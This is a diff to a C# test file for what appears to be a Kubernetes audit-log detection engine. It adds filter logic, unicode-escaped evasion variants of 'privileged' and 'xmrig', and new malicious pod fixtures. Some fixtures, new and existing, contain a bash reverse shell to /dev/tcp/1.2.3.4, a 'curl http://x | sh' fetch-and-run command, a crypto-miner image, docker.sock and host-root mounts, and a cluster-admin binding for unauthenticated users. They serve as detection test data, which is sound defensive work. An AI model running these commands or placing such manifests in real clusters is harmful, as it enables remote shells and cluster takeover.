@@ -53,13 +53,15 @@ public sealed class SettledVerdictsTests
         var (remembered, direct) = (new AuditEvent(set.Symbols), new AuditEvent(set.Symbols));
         var view = new AuditEventView { Event = direct };
         long settledCount = 0, asked = 0;
+        var text = new char[64];
         foreach (var utf8 in events)
         {
             if (!remembered.TryRead(utf8, new EventOrigin(0, 0, EnvelopeShape.Event, false), cluster, 0, out _)) continue;
             direct.TryRead(utf8, new EventOrigin(0, 0, EnvelopeShape.Event, false), cluster, 0, out _);
             var settled = settledVerdicts.For(remembered);
             var said = settled.Unknown.ToDictionary(u => u.Rule, u => u.Why);
-            var open = settled.Open.Select(r => r.Index).ToHashSet();
+            var held = settled.Sieve?.Holds(remembered, ref text);
+            var open = settled.Open.Where((_, i) => held is null || (held >> i & 1) == 1).Select(r => r.Index).ToHashSet();
             asked += open.Count;
             settledCount += set.Rules.Count - open.Count;
             Assert.Equal(settled.Open.OrderBy(r => r.Index), settled.Open);
@@ -118,7 +120,9 @@ public sealed class SettledVerdictsTests
             e["requestReceivedTimestamp"] = "2026-11-25T12:00:00.000000Z";
             e["stageTimestamp"] = "2026-11-25T12:00:00.100000Z";
             if (Chance(85)) e["annotations"] = Annotations();
-            return Encoding.UTF8.GetBytes(e.ToJsonString());
+            var json = e.ToJsonString();
+            if (Chance(5)) json = json.Replace("privileged", "\\u0070rivileged", StringComparison.Ordinal).Replace("xmrig", "xm\\u0072ig", StringComparison.Ordinal);
+            return Encoding.UTF8.GetBytes(json);
         }
 
         JsonObject User()
@@ -141,6 +145,8 @@ public sealed class SettledVerdictsTests
             """{"kind":"ClusterRoleBinding","subjects":[{"kind":"Group","name":"system:unauthenticated"}],"roleRef":{"kind":"ClusterRole","name":"cluster-admin"}}""",
             """{"kind":"ClusterRole","rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}""",
             """{"kind":"Pod","metadata":{"name":"p","labels":{"a":"b"}},"spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"c","image":"evil/xmrig:latest","securityContext":{"privileged":true},"command":["sh","-c","curl http://x | sh"]}],"volumes":[{"name":"v","hostPath":{"path":"/"}}]}}""",
+            """{"kind":"Pod","spec":{"hostNetwork":true,"serviceAccountName":"x","containers":[{"name":"c","image":"[redacted:0123456789abcdef]/x","securityContext":{"privileged":"[redacted]"},"args":["[redacted]"]}]}}""",
+            """{"kind":"Pod","spec":{"initContainers":[{"name":"c","image":"Evil/XMRIG","command":["bash","-c","bash -i >& /dev/tcp/1.2.3.4/9 0>&1"],"securityContext":{"capabilities":{"add":["SYS_ADMIN"]},"runAsUser":0}}],"volumes":[{"hostPath":{"path":"/var/run/docker.sock"}}]}}""",
             """{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"registry.example/c:1"}]}},"replicas":0}}""",
             """[{"op":"add","path":"/spec/hostPID","value":true}]""",
             """{"spec":{"audiences":["vault"],"expirationSeconds":864000}}"""));
